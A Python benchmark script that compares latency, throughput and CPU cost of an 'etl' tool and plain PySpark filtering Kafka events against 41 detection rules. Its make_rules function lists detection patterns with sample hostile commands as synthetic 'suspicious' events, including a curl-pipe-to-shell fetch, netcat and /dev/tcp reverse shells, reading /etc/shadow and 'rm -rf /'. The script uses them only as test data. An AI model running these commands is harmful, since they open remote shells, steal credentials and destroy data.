#!/usr/bin/env python3
"""Kafka -> filter (41 rules) -> Kafka: etl and a plain-PySpark job side by side, default trigger and real-time mode.

    .venv/bin/python bench/kafka.py                                   # 1k, 5k, 20k ev/s x 4 jobs, 10 s each
    .venv/bin/python bench/kafka.py --rates 5000 --systems etl --modes realtime --bootstrap 127.0.0.1:9092

Without --bootstrap a single-node KRaft broker is started from java/lib/kafka (tests/servers,
scripts/setup-java.sh). Jobs, one at a time, each on local[*] with its own topics:

* etl exactly-once: `etl run` of the pipeline, trigger interval --trigger, the exactly-once kafka sink (one
  transaction per micro-batch);
* etl real-time: the same pipeline with `trigger: {mode: realtime}` (Spark's real-time mode, Spark's Kafka sink,
  at least once, dead letters to a Kafka topic);
* plain PySpark (bench/_plain_kafka.py): the same rules as Spark column expressions, Spark's Kafka source and sink,
  Spark's default trigger, or `trigger(realTime="5 seconds")`.

After a warm-up (2,000 events whose matches must come out the other side), rate x --seconds JSON events are
produced at each rate; about 2.5 % of them match a rule. Every event carries the wall-clock time it was produced;
a read_committed consumer timestamps each output as it arrives: latency = arrival - production. Throughput = events
/ (last output received - first event produced). CPU per event = CPU time of the job's processes (JVM and Python
workers, /proc) from the first event produced to the last output received, over the events produced.

One line per job (kafka system=... trigger=... p50_latency_ms=... cpu_us_per_event=...), then the table and the
issue-42 checks (PASS/FAIL): etl exactly-once p50 <= 1.5 x plain default p50 and p99 <= 1.5 s at 5k and 20k ev/s;
etl real-time p99 <= 2 x plain real-time p99.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import signal
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

SAFE = ["ls -la /var/log", "cat /etc/hostname", "grep -r TODO src/", "tar czf backup.tgz data/", "git pull --rebase",
        "docker ps -a", "kubectl get pods -n web", "systemctl status nginx", "df -h", "du -sh /home/*",
        "python3 manage.py migrate", "make -j2 build", "vim notes.txt", "journalctl -u app --since today"]
USERS = ["alice", "bob", "carol", "deploy", "ci", "build", "root"]
HOSTS = ["web-1", "web-2", "db-1", "cache-1", "batch-3"]


def make_rules() -> tuple[list[dict], list[str]]:
    """41 rules (regex, contains, starts_with, in, eq, caseless, nested any/all/not) and, for each
    of the first 20, a command line that matches it (the suspicious events)."""
    rules: list[dict] = []
    hits: list[str] = []
    families = [
        (r"curl\s.*\|\s*(ba|z)?sh", "curl -s http://x.example/i.sh | sh"),
        (r"wget\s+https?://\S+\.(sh|py)\b", "wget http://x.example/p.py"),
        (r"\bnc\s+-e\s+/bin/(ba)?sh", "nc -e /bin/sh 10.0.0.9 4444"),
        (r"base64\s+(-d|--decode)", "echo aGk= | base64 -d"),
        (r"/etc/(passwd|shadow)", "cat /etc/shadow"),
        (r"chmod\s+\+x\s+/tmp/\w+", "chmod +x /tmp/payload"),
        (r"python[23]?\s+-c\s+.*socket", "python3 -c 'import socket'"),
        (r"\bnmap\s+-s[SV]", "nmap -sS 10.0.0.0/24"),
        (r"bash\s+-i\s+>&\s*/dev/tcp/", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"),
        (r"rm\s+-rf\s+/(\s|$)", "rm -rf / "),
        (r"\bcrontab\s+-r\b", "crontab -r"),
        (r"ssh\s+-R\s+\d+:", "ssh -R 8080:localhost:80 x@y"),
        (r"powershell.*-enc", "powershell -nop -enc SQBFAFgA"),
        (r"iptables\s+-F", "iptables -F"),
        (r"history\s+-c", "history -c"),
    ]
    for i, (rx, hit) in enumerate(families):
        rules.append({"id": f"r{i:02d}", "when": {"field": "cmd", "regex": rx}})
        hits.append(hit)
    for i, word in enumerate(["mimikatz", "LaZagne", "xmrig", "Rubeus", "kerbrute"]):
        rules.append({"id": f"tool-{i}", "when": {"field": "cmd", "contains": word.lower(), "caseless": True}})
        hits.append(f"./{word} --run")
    rules.append({"id": "ci-sudo", "when": {"all": [{"field": "user", "in": ["ci", "build"]},
                                                     {"field": "cmd", "starts_with": "sudo "}]}})
    hits.append(None)  # matched by user + cmd below
    for i in range(20):  # IOC literals and argument patterns that ordinary traffic never has
        tok = uuid.UUID(int=random.Random(i).getrandbits(128)).hex[:10]
        pred = {"field": "cmd", "regex": rf"{tok}\d+"} if i % 2 else {"field": "cmd", "contains": tok}
        rules.append({"id": f"ioc-{i:02d}", "when": {"all": [pred, {"not": {"field": "host", "eq": "honeypot"}}]}})
    assert len(rules) == 41
    return rules, [h for h in hits if h]


def pipeline_yaml(name: str, bootstrap: str, src: str, dst: str, rules: list[dict], trigger: str,
                  dead: str | None = None) -> str:
    """etl's pipeline: exactly once with `trigger` an interval, or Spark's real-time mode (`trigger` "realtime": at
    least once, dead letters to the topic `dead`)."""
    realtime = trigger == "realtime"
    sink = {"id": "alerts", "type": "kafka", "input": "suspicious", "bootstrap_servers": bootstrap, "topic": dst,
            "key": "cast(id AS string)"}
    lines = [
        f"name: {name}",
        "sources:",
        "  - " + json.dumps({"id": "commands", "type": "kafka", "bootstrap_servers": bootstrap, "topics": [src],
                             "starting_offsets": "earliest",
                             "schema": {"id": "bigint", "sent_ms": "bigint", "host": "string", "user": "string",
                                        "cmd": "string"}}),
        "transforms:",
        "  - id: suspicious",
        "    type: filter",
        "    input: commands",
        "    rules:",
        *[f"      - {json.dumps(r)}" for r in rules],
        "sinks:",
        "  - " + json.dumps({**sink, "delivery": "at_least_once"} if realtime else sink),
        "trigger: {mode: realtime}" if realtime else f"trigger: {{mode: interval, interval: {trigger}}}",
        "checkpoint: state/checkpoint",
    ]
    if realtime:
        lines.append("dead_letter: " + json.dumps({"type": "kafka", "bootstrap_servers": bootstrap, "topic": dead,
                                                   "delivery": "at_least_once"}))
    return "\n".join(lines) + "\n"


def produce(bootstrap: str, topic: str, events: int, rate: float, hits: list[str], first_id: int,
            started: list[float], expected: list[int]) -> None:
    from confluent_kafka import Producer

    rng = random.Random(42)
    p = Producer({"bootstrap.servers": bootstrap, "linger.ms": 2, "enable.idempotence": True,
                  "queue.buffering.max.messages": 1_000_000})
    t0 = time.monotonic()
    started.append(time.time())
    step = max(1, int(rate / 100))  # send in slices every 10 ms
    sent = 0
    while sent < events:
        n = min(step, events - sent)
        now_ms = int(time.time() * 1000)
        for i in range(n):
            eid = first_id + sent + i
            if rng.random() < 0.025:
                cmd, user = rng.choice(hits), rng.choice(USERS)
                expected.append(eid)
            else:
                cmd, user = rng.choice(SAFE), rng.choice(USERS)
            p.produce(topic, key=str(eid), value=json.dumps({"id": eid, "sent_ms": now_ms, "host": rng.choice(HOSTS),
                                                             "user": user, "cmd": cmd}))
        sent += n
        p.poll(0)
        ahead = t0 + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    p.flush(60)


def consume(bootstrap: str, topic: str, stop: threading.Event, got: dict[int, tuple[float, float]]) -> None:
    """got[id] = (latency ms, wall time received) of every output event."""
    from confluent_kafka import Consumer

    c = Consumer({"bootstrap.servers": bootstrap, "group.id": f"bench-{uuid.uuid4().hex[:6]}",
                  "auto.offset.reset": "earliest", "isolation.level": "read_committed", "enable.auto.commit": False})
    c.subscribe([topic])
    try:
        while not stop.is_set():
            for m in c.consume(10000, 0.2):
                if m.error() is None:
                    now = time.time()
                    ev = json.loads(m.value())
                    got.setdefault(ev["id"], (now * 1000 - ev["sent_ms"], now))
    finally:
        c.close()


def wait_for(pred, timeout: float, proc: subprocess.Popen, what: str) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pred():
            return
        if proc.poll() is not None:
            raise SystemExit(f"etl run exited with {proc.returncode} while waiting for {what}")
        time.sleep(0.1)
    raise SystemExit(f"timed out after {timeout:.0f}s waiting for {what}")


def percentile(values: list[float], q: float) -> float:
    s = sorted(values)
    return s[min(len(s) - 1, int(round(q / 100 * (len(s) - 1))))] if s else float("nan")


def session_cpu(sid: int) -> float:
    """CPU seconds (user + system, with reaped children's) of every process of session `sid` (the job's JVM and
    Python workers)."""
    tick = os.sysconf("SC_CLK_TCK")
    total = 0
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            f = (d / "stat").read_text().rsplit(")", 1)[1].split()
        except OSError:  # ended meanwhile
            continue
        if int(f[3]) == sid:
            total += sum(int(x) for x in f[11:15])
    return total / tick


@dataclass
class Result:
    system: str  # etl, plain
    trigger: str  # the etl trigger interval, "default" (plain) or "realtime"
    rate: float
    events: int
    matched: int
    events_per_s: float
    p50: float
    p99: float
    cpu_us: float  # CPU per event produced, microseconds


def start_job(system: str, trigger: str, bootstrap: str, src: str, dst: str, dead: str, rules: list[dict],
              work: Path) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    log = open(work / "run.log", "w")  # noqa: SIM115 - the job's, closed with it
    if system == "etl":
        (work / "pipeline.yaml").write_text(pipeline_yaml(f"bench-kafka-{work.name}", bootstrap, src, dst, rules,
                                                          trigger, dead))
        cmd = [sys.executable, "-m", "etl", "run", "pipeline.yaml", "--progress", "json"]
    else:
        (work / "rules.json").write_text(json.dumps(rules))
        cmd = [sys.executable, str(REPO / "bench" / "_plain_kafka.py"), bootstrap, src, dst, str(work / "checkpoint"),
               str(work / "rules.json"), "realtime" if trigger == "realtime" else "default"]
    return subprocess.Popen(cmd, cwd=work, env=env, stdout=subprocess.DEVNULL, stderr=log, start_new_session=True)


def stop_job(proc: subprocess.Popen) -> None:
    if proc.poll() is None:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(60)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(10)


def run_one(system: str, trigger: str, rate: float, events: int, bootstrap: str, partitions: int, work: Path,
            rules: list[dict], hits: list[str]) -> Result:
    """One job, alone: warm-up, then `events` at `rate` events/s, timed by a read_committed consumer."""
    from confluent_kafka.admin import AdminClient, NewTopic

    suffix = uuid.uuid4().hex[:6]
    src, dst, dead = f"bench-in-{suffix}", f"bench-out-{suffix}", f"bench-dead-{suffix}"
    admin = AdminClient({"bootstrap.servers": bootstrap})
    for f in admin.create_topics([NewTopic(t, partitions, 1) for t in (src, dst, dead)]).values():
        f.result(30)
    work.mkdir(parents=True)
    proc = start_job(system, trigger, bootstrap, src, dst, dead, rules, work)
    got: dict[int, tuple[float, float]] = {}
    stop = threading.Event()
    reader = threading.Thread(target=consume, args=(bootstrap, dst, stop, got), daemon=True)
    reader.start()
    try:
        warm: list[int] = []  # 2,000 events with ids below zero, until their matches come out
        produce(bootstrap, src, 2000, 2000, hits, -10_000_000, [], warm)
        wait_for(lambda: all(i in got for i in warm), 600, proc, "the warm-up events")
        cpu0 = session_cpu(proc.pid)
        expected: list[int] = []
        started: list[float] = []
        produce(bootstrap, src, events, rate, hits, 0, started, expected)
        wait_for(lambda: all(i in got for i in expected), 600, proc, "every matching event")
        cpu = session_cpu(proc.pid) - cpu0
    finally:
        stop.set()
        reader.join(5)
        stop_job(proc)
    lat = [got[i][0] for i in expected]
    end = max(got[i][1] for i in expected)  # wall time the last matching event was received
    extra = len([i for i in got if i >= 0 and i not in set(expected)])
    if extra:
        print(f"  {extra} unexpected outputs", file=sys.stderr)
    return Result(system, trigger, rate, events, len(expected), events / max(end - started[0], 1e-9),
                  percentile(lat, 50), percentile(lat, 99), cpu / events * 1e6)


def verdicts(results: list[Result], eo_trigger: str) -> list[str]:
    """The issue's done-when lines: etl exactly-once p50 <= 1.5x plain default-trigger p50 and p99 <= 1.5 s at 5k and
    20k ev/s; etl real-time p99 <= 2x plain real-time p99."""
    by = {(r.system, r.trigger, r.rate): r for r in results}
    out = []
    for rate in (5000.0, 20000.0):
        eo, plain = by.get(("etl", eo_trigger, rate)), by.get(("plain", "default", rate))
        if eo and plain:
            ok = eo.p50 <= 1.5 * plain.p50 and eo.p99 <= 1500
            out.append(f"{'PASS' if ok else 'FAIL'} {rate:,.0f} ev/s: etl exactly-once p50 {eo.p50:,.0f} ms <= 1.5 x "
                       f"{plain.p50:,.0f} ms = {1.5 * plain.p50:,.0f} ms, p99 {eo.p99:,.0f} ms <= 1,500 ms")
    for rate in sorted({r.rate for r in results}):
        rt, plain = by.get(("etl", "realtime", rate)), by.get(("plain", "realtime", rate))
        if rt and plain:
            ok = rt.p99 <= 2 * plain.p99
            out.append(f"{'PASS' if ok else 'FAIL'} {rate:,.0f} ev/s: etl real-time p99 {rt.p99:,.0f} ms <= 2 x "
                       f"{plain.p99:,.0f} ms = {2 * plain.p99:,.0f} ms")
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rates", default="1000,5000,20000", help="events per second produced, comma-separated")
    ap.add_argument("--seconds", type=float, default=10.0, help="seconds of events at each rate")
    ap.add_argument("--systems", default="etl,plain", help="etl, plain or both")
    ap.add_argument("--modes", default="default,realtime", help="default (etl: --trigger), realtime, or both")
    ap.add_argument("--bootstrap", help="an existing broker (default: start one from java/lib/kafka)")
    ap.add_argument("--partitions", type=int, default=2)
    ap.add_argument("--trigger", default="500ms", help="etl's micro-batch interval (its exactly-once runs)")
    ap.add_argument("--keep", action="store_true", help="keep the work folder")
    args = ap.parse_args()

    work = Path(tempfile.mkdtemp(prefix="etl-bench-kafka-"))
    server = None
    if args.bootstrap:
        bootstrap = args.bootstrap
    else:
        from tests.servers import KafkaServer

        server = KafkaServer(heap="1g", num_partitions=args.partitions)
        server.start()
        bootstrap = server.bootstrap_servers
        print(f"broker {bootstrap} started in {server.startup_seconds:.1f}s", file=sys.stderr)
    rules, hits = make_rules()
    results: list[Result] = []
    try:
        for system in args.systems.split(","):
            for mode in args.modes.split(","):
                trigger = "realtime" if mode == "realtime" else args.trigger if system == "etl" else "default"
                for rate in (float(r) for r in args.rates.split(",")):
                    events = int(rate * args.seconds)
                    print(f"{system} {trigger} {rate:g} ev/s, {events} events ...", file=sys.stderr)
                    try:
                        r = run_one(system, trigger, rate, events, bootstrap, args.partitions,
                                    work / f"{system}-{mode}-{int(rate)}", rules, hits)
                    except SystemExit as e:  # a job that failed or timed out: the others still run
                        print(f"kafka system={system} trigger={trigger} rate={rate:g} failed: {e}", flush=True)
                        continue
                    results.append(r)
                    print(f"kafka system={system} trigger={trigger} events={events} rate={rate:g} "
                          f"events_per_s={r.events_per_s:.0f} p50_latency_ms={r.p50:.0f} p99_latency_ms={r.p99:.0f} "
                          f"cpu_us_per_event={r.cpu_us:.1f}", flush=True)
    finally:
        if server is not None:
            server.cleanup()
        if not args.keep:
            import shutil

            shutil.rmtree(work, ignore_errors=True)
        else:
            print(f"work folder: {work}", file=sys.stderr)
    print("\n| system | trigger | rate ev/s | events | matched | throughput ev/s | p50 ms | p99 ms | CPU us/event |")
    print("|---|---|---|---|---|---|---|---|---|")
    for r in results:
        label = "etl exactly-once" if r.system == "etl" and r.trigger != "realtime" else \
            "etl at-least-once" if r.system == "etl" else "plain PySpark"
        print(f"| {label} | {r.trigger} | {r.rate:,.0f} | {r.events:,} | {r.matched:,} | {r.events_per_s:,.0f} | "
              f"{r.p50:,.0f} | {r.p99:,.0f} | {r.cpu_us:,.1f} |")
    for line in verdicts(results, args.trigger):
        print(line)


if __name__ == "__main__":
    main()
